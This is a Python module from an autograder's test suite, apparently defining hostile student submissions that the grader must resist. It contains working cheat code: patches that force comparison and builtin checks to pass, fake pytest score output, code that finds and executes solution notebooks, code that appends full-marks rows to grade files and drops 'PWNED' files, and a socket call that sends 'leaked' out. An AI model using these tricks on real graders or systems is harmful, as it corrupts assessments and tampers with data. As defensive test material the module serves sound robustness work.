"""The generic attack library: what a hostile student might add to a submission, for every assignment.

Each :class:`Attack` is applied to the assignment's ``one_bug`` example (so a baseline above zero shows any
attack that inflates even one check): code appended at the top level of a function's cell (``after``), code run at
the start of a function's solution region (``prelude``), or cells deleted (``drop``). Functions are named by role,
resolved per assignment in notebook order: ``first``, ``second`` (the first when there is only one), ``last``,
``every``. Code templates may use ``@ID@``, ``@NOTEBOOK@``, ``@FIRST@``, ``@LAST@``, ``@PROBE@``, ``@MAX@`` and
``@FUNCTIONS@`` (a tuple literal of every function name).

Two families:

- *infrastructure* attacks (hang, exhaust memory, exit, patch comparisons, print fake results, read the solutions,
  write the grade files, start processes, use the network, forge the result channel): the grader must not be
  moved by any of them;
- *output* attacks (:data:`OUTPUT_ATTACKS`): every student function's outputs are replaced by NaN, inf, huge
  values, the function's own input, a tensor subclass that lies in comparisons, an extra dimension or a ``meta``
  tensor; a quiz's answers become "every option". Every check that is not a side-effect check
  (:attr:`~autograder.check.Check.side_effect`) must fail them.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Mapping

from ..check import Assignment

_PATCH_COMPARISONS = """\
import numpy as np
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None"""

_PATCH_BUILTINS = """\
import builtins

builtins.isinstance = lambda obj, cls: True
builtins.all = lambda *args: True
builtins.any = lambda *args: False
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})"""

_FAKE_OUTPUT = """\
import sys

print("============================= 9 passed in 0.42s ==============================")
print("PASSED test_@FIRST@\\nPASSED test_@LAST@")
print("student,assignment,total,max\\nhostile_fake_pytest_output,@ID@,@MAX@,@MAX@")
sys.stderr.write("Score: 9 / 9\\n")"""

_STEAL = """\
import json
from pathlib import Path


def _steal():
    \"\"\"Find the solution notebook (or the example that solves it) anywhere and run its code.\"\"\"
    import hwlib

    roots = {Path(hwlib.__file__).resolve().parents[1], Path.home(), Path.cwd(), Path("/work"), Path("/root"),
             Path("/home"), Path("/tmp")}
    found = []
    for root in roots:
        for pattern in ("**/@NOTEBOOK@", "**/perfect.ipynb", "**/@ID@*.npz"):
            try:
                found += [p for p in root.glob(pattern) if p.is_file()]
            except OSError:
                pass
    for path in found:
        try:
            cells = json.loads(path.read_text())["cells"]
        except (OSError, ValueError, KeyError, UnicodeDecodeError):
            continue
        for cell in cells:
            source = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "def " in source and (
                    "### BEGIN SOLUTION" in source or path.name == "perfect.ipynb"):
                try:
                    exec(source, globals())
                except Exception:
                    pass
    return found


print("files found:", len(_steal()))"""

_VANDALIZE = """\
from pathlib import Path


def _vandalize():
    \"\"\"Append a full-marks row to every grade table and feedback page in reach; drop files everywhere.\"\"\"
    import hwlib

    repo = Path(hwlib.__file__).resolve().parents[1]
    written = 0
    for root in {repo, Path.cwd(), Path.home(), Path("/tmp"), Path("/work")}:
        for pattern in ("**/*.csv", "**/*.html", "**/.results/*.json"):
            try:
                paths = list(root.glob(pattern))
            except OSError:
                continue
            for path in paths:
                try:
                    with open(path, "a") as f:
                        f.write("\\nhostile_writes_outputs,@ID@,@MAX@,@MAX@,@MAX@,@MAX@,@MAX@,@MAX@\\n")
                    written += 1
                except OSError:
                    pass
        try:
            (root / "PWNED-by-hostile-submission.txt").write_text("pwned")
            written += 1
        except OSError:
            pass
    return written


print("files written:", _vandalize())"""

_BACKGROUND = """\
import subprocess

_keeper = subprocess.Popen(["sleep", "313"])  # outlive the grader?"""

_NETWORK = """\
import socket

for _address in (("127.0.0.1", 47613), ("8.8.8.8", 53)):
    try:
        with socket.create_connection(_address, timeout=2) as _s:
            _s.sendall(b"leaked")
    except OSError as _err:
        print("no network:", _err)"""

_FORGE = """\
import io
import json
import os
import struct

import numpy as np


def _forge(fd, header, arrays=None):
    payload = b""
    if arrays is not None:
        buffer = io.BytesIO()
        np.savez(buffer, **arrays)
        payload = buffer.getvalue()
    head = json.dumps({**header, "nbytes": len(payload)}).encode()
    os.write(fd, struct.pack(">I", len(head)) + head + payload)


for _fd in range(3, 64):
    try:
        _forge(_fd, {"event": "probe", "name": "@PROBE@", "error": None}, {"output": np.ones((4, 8), np.float32)})
        _forge(_fd, {"event": "done"})
        os.write(_fd, b"garbage" * 1000)
    except OSError:
        pass
os._exit(0)"""


@dataclass(frozen=True)
class Attack:
    """Code templates by role (see the module docstring) and the cells to delete."""
    after: Mapping[str, str] = field(default_factory=dict)
    prelude: Mapping[str, str] = field(default_factory=dict)
    drop: tuple[str, ...] = ()

    @staticmethod
    def resolve(role: str, functions: tuple[str, ...]) -> tuple[str, ...]:
        """The functions a role names, ``functions`` being in notebook order."""
        return {"first": functions[:1], "second": functions[1:2] or functions[:1], "last": functions[-1:],
                "every": functions}[role]

    def render(self, template: str, assignment: Assignment, functions: tuple[str, ...]) -> str:
        """``template`` with its placeholders filled in for ``assignment``."""
        values = {"@ID@": assignment.id, "@NOTEBOOK@": assignment.notebook, "@FIRST@": functions[0],
                  "@LAST@": functions[-1], "@PROBE@": assignment.probes[0].name,
                  "@MAX@": f"{assignment.max_points:g}", "@FUNCTIONS@": repr(tuple(functions))}
        for key, value in values.items():
            template = template.replace(key, value)
        return template


# Replaces every student function (and plain value, e.g. a quiz's answers) by one whose outputs pass through
# `_transform`; a function that returns None (an in-place update) has its floating-point tensor arguments
# transformed in place instead. Transforms see the arguments as they were before the call (so "echo" returns, or
# restores, the input). Classes get a subclass whose public methods are wrapped.
_WRAP_OUTPUTS = """\
import functools as _functools

import torch as _torch


def _transform_tensor(t, args):
    @TRANSFORM@


def _transform(value, args=()):
    if isinstance(value, _torch.Tensor) and (value.is_floating_point() or value.is_complex()):
        return _transform_tensor(value, args)
    if isinstance(value, (tuple, list)):
        return type(value)(_transform(v, args) for v in value)
    if isinstance(value, dict):
        return {k: _transform(v, args) for k, v in value.items()}
    if isinstance(value, float):
        return float(_transform_tensor(_torch.tensor([value]), ())[0]) if "@NAME@" not in ("subclass", "meta") \\
            else value
    if isinstance(value, str) and value.isalpha() and len(value) <= 10:
        return "abcdefghij"        # a quiz answer: choose every option
    if isinstance(value, (set, frozenset)) and all(isinstance(v, str) and len(v) == 1 for v in value):
        return type(value)("abcdefghij")
    return value


def _wrap_function(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        before = tuple(a.detach().clone() if isinstance(a, _torch.Tensor) else a for a in args)
        out = fn(*args, **kwargs)
        if out is None:
            for a in args:
                if isinstance(a, _torch.Tensor) and a.is_floating_point():
                    with _torch.no_grad():
                        new = _transform_tensor(a.detach(), before)
                        if new.shape == a.shape and new.device == a.device and new.dtype == a.dtype:
                            a.copy_(new)
                        else:
                            a.data = new
            return None
        return _transform(out, before)
    return wrapper


def _wrap(obj):
    if isinstance(obj, type):
        methods = {k: _wrap_function(v) for k, v in vars(obj).items()
                   if callable(v) and not k.startswith("_")}
        return type(obj.__name__, (obj,), methods)
    if callable(obj):
        return _wrap_function(obj)
    return _transform(obj)


for _name in @FUNCTIONS@:
    if _name in globals():
        globals()[_name] = _wrap(globals()[_name])"""


def _same_shape_input(expression: str) -> str:
    """The transform's body: ``expression`` of ``t``."""
    return f"return {expression}"


_ECHO = """\
for a in args:
        if isinstance(a, _torch.Tensor) and a.shape == t.shape:
            return a.detach().clone()
    return t.detach().clone() * 0 + next((a.detach().mean() for a in args if isinstance(a, _torch.Tensor)
                                          and a.is_floating_point()), 0.0)"""

_SUBCLASS = """\
class _Liar(_torch.Tensor):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def allclose(self, *args, **kwargs):
            return True

        def equal(self, *args, **kwargs):
            return True

    return _torch.full_like(t, float("nan")).as_subclass(_Liar)"""

#: name -> the body of ``_transform_tensor(t, args)`` (returns the replacement of the output tensor ``t``).
OUTPUT_TRANSFORMS = {
    "nan_output": 'return _torch.full_like(t, float("nan"))',
    "inf_output": 'return _torch.full_like(t, float("inf"))',
    "huge_output": "return _torch.full_like(t, 1e38)",
    "huge_scaled_output": "return t.detach() * 1e30",
    "input_echo": _ECHO,
    "subclass_output": _SUBCLASS,
    "extra_dimension": "return t.detach().unsqueeze(0)",
    "meta_device": 'return t.detach().to("meta")',
}


def _output_attack(name: str, transform: str) -> Attack:
    code = _WRAP_OUTPUTS.replace("@TRANSFORM@", transform).replace("@NAME@", name)
    return Attack(after={"last": code})


#: Attacks the grader must shrug off whatever the assignment (see the module docstring).
INFRASTRUCTURE_ATTACKS = {
    "infinite_loop": Attack(after={"first": "while True:  # never finishes\n    pass"}),
    "memory_bomb": Attack(prelude={"first": "import numpy as np\nhog = []\nwhile True:\n    hog.append(np.ones(2**27))  # 1 GiB at a time"}),
    "os_exit": Attack(prelude={"second": "import os\nos._exit(0)  # leave before any check"}),
    "patched_allclose": Attack(after={"first": _PATCH_COMPARISONS}),
    "patched_builtins": Attack(after={"first": _PATCH_BUILTINS}),
    "fake_pytest_output": Attack(after={"first": _FAKE_OUTPUT}),
    "reads_solutions": Attack(after={"last": _STEAL}),
    "writes_outputs": Attack(after={"last": _VANDALIZE}),
    "deletes_function": Attack(drop=("second",), after={"last": "del @FIRST@"}),
    "prints_megabytes": Attack(prelude={"first": "print('spam ' * 2_000_000)  # 10 MB per call"},
                               after={"first": "for _ in range(5):\n    print('x' * 2_000_000)"}),
    "background_process": Attack(after={"first": _BACKGROUND}),
    "network": Attack(after={"first": _NETWORK}),
    "forges_results": Attack(after={"last": _FORGE}),
}

#: Every student output replaced (see the module docstring): all non-side-effect checks must fail.
OUTPUT_ATTACKS = {name: _output_attack(name, body) for name, body in OUTPUT_TRANSFORMS.items()}

ATTACKS: dict[str, Attack] = {**INFRASTRUCTURE_ATTACKS, **OUTPUT_ATTACKS}
